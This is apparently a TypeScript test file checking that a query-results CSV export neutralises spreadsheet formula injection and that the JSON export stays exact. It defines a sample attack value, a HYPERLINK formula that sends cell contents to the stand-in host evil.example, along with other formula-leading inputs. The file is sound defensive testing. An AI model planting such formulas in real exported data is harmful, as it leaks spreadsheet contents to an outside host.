// The results table's CSV export never hands a spreadsheet a formula: group values and column names come
// from event data outsiders can write. Numbers stay numbers; the JSON export stays exact.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { toCsv, toJson, type Table } from '../../src/webview/protocol/queryResults';

const ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"x")';

/** The one data line of a one-column table holding `cell`. */
const csvOf = (cell: Table['rows'][number][number]): string =>
  toCsv({ columns: ['v'], rows: [[cell]] }).split('\r\n')[1] ?? '';

test('a group value a spreadsheet would run as a formula is written as quoted text with a leading apostrophe', () => {
  assert.equal(
    toCsv({ columns: ['http.route', 'COUNT'], rows: [[ATTACK, 3]] }),
    `http.route,COUNT\r\n"'=HYPERLINK(""http://evil.example/?""&A2,""x"")",3\r\n`,
  );
});

test('every lead a spreadsheet evaluates is neutralised: = + - @, tab, carriage return, their full-width forms, after spaces or line breaks', () => {
  const leads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(A1)',
    '  =1+1',
    '\n=1+1',
    '\tcmd',
  ];
  assert.deepEqual(
    leads.map((text) => csvOf(text)),
    leads.map((text) => `"'${text}"`),
  );
});

test('a cell holding a semicolon or a tab is quoted whole, so no locale or paste splits a formula out of it', () => {
  assert.deepEqual(['a;=1+1', 'a\t=1+1'].map(csvOf), ['"a;=1+1"', '"a\t=1+1"']);
});

test('a column name is neutralised like a value', () => {
  assert.equal(toCsv({ columns: ['-2+3', 'COUNT'], rows: [] }), `"'-2+3",COUNT\r\n`);
});

test('numbers stay numbers: a negative number, a fraction and zero are written as they are', () => {
  assert.equal(
    toCsv({ columns: ['a', 'b', 'c', 'd'], rows: [[-3, -0.25, 0, 1e21]] }),
    'a,b,c,d\r\n-3,-0.25,0,1e+21\r\n',
  );
});

test('text that is no formula is written as before: a sign inside, a time, true, an empty cell', () => {
  assert.equal(
    toCsv({ columns: ['a', 'b', 'c', 'd', 'e'], rows: [['a=b', '2025-06-02T00:10:00.000Z', true, null, 'x-y']] }),
    'a,b,c,d,e\r\na=b,2025-06-02T00:10:00.000Z,true,,x-y\r\n',
  );
});

test('the JSON export keeps every value exactly as the service gave it', () => {
  const table: Table = {
    columns: ['=col', 'n'],
    rows: [
      [ATTACK, -3],
      ['@SUM(A1)', 1.5],
    ],
  };
  assert.equal(
    toJson(table),
    `${JSON.stringify(
      [
        { '=col': ATTACK, n: -3 },
        { '=col': '@SUM(A1)', n: 1.5 },
      ],
      null,
      2,
    )}\n`,
  );
});
